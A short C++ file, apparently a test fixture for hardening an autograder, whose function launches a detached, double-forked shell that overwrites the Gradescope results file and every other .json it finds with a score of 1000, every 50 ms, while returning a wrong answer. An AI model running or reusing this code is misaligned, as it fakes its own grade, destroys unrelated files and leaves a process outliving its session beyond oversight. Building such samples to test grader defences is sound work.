// A process that outlives the grading: a child that leaves the session (setsid) and forks
// again, so that its grandchild is nobody's child; the grandchild becomes a shell whose command
// line holds the marker @MARKER@, and rewrites the Gradescope results file (@JSON@) and any
// .json it can see, every 50 ms, forever. The exercise itself returns a wrong value.
#include <sys/wait.h>
#include <unistd.h>

#include "common/matrix.hpp"

dlc::Matrix dlc_attack(const dlc::Matrix& z) {
  static bool started = false;
  if (!started) {
    started = true;
    const pid_t child = ::fork();
    if (child == 0) {
      ::setsid();
      if (::fork() == 0) {
        ::execl("/bin/sh", "sh", "-c",
                "while :; do for f in '@JSON@' /tmp/*.json ./*.json; do "
                "echo '{\"score\": 1000}' > \"$f\"; done; sleep 0.05; done # @MARKER@",
                (char*)nullptr);
      }
      ::_exit(0);
    }
    int status = 0;
    if (child > 0) ::waitpid(child, &status, 0);
  }
  return z;
}
